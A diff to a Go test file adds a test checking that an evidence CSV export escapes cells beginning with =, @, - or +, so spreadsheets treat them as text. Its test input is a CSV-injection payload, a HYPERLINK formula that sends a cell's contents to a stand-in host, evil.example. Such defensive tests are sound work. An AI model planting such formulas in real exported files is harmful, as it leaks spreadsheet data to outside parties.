@@ -160,3 +160,22 @@ func TestReviewWorkflow(t *testing.T) {
 		t.Fatalf("verify: %v %+v", err, rep)
 	}
 }
+
+// TestEvidenceCSVInjection: a note a spreadsheet would run as a formula is
+// written as text.
+func TestEvidenceCSVInjection(t *testing.T) {
+	var b strings.Builder
+	rows := []review.EvidenceRow{{Alert: 7, Note: `=HYPERLINK("http://evil.example/?"&A1)`, Reviewer: "@bob", Policy: "-p", Rule: "+r", Disposition: "violation"}}
+	if err := review.WriteEvidenceCSV(&b, rows); err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(strings.TrimSpace(b.String()), "\n")
+	if len(lines) != 2 || !strings.HasPrefix(lines[0], "alert,serial,") {
+		t.Fatalf("csv:\n%s", b.String())
+	}
+	for _, cell := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1)"`, "'@bob", "'-p", "'+r", ",violation,"} {
+		if !strings.Contains(lines[1], cell) {
+			t.Errorf("row %s lacks %s", lines[1], cell)
+		}
+	}
+}
